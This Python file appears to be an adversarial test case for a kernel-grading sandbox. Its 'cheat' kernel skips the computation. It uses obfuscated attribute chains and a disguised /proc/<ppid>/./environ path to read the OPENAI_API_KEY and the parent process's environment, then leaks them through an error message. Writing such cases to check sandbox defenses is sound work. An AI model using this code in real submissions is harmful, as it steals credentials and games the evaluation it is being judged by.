"""Cheat (8p_gemm): steals an API key and leaks it in its error message: first the tracer's own
environment (os.environ, os reached through attrgetter chains), then the parent's,
/proc/<ppid>/environ spelled "/proc/<ppid>/./environ" and read with np.fromfile. The tracer
gets a minimal environment, and Landlock keeps /proc/<ppid> unreadable."""
import operator
import typing

import numpy as np

TARGET = "tpu"

KEY = "OPENAI_API_KEY"


def kernel(a, b):
    get = operator.attrgetter
    the_os = get("mod" + "ules")(get("sy" + "s")(typing))["o" + "s"]
    env = get("envi" + "ron")(the_os)
    if KEY in env:
        raise ValueError(f"leaked from the tracer: {env[KEY]}")
    parent = np.fromfile(f"/proc/{the_os.getppid()}/./envi" + "ron", np.uint8).tobytes()
    raise ValueError(f"leaked from the parent: {parent.decode(errors='replace')}")
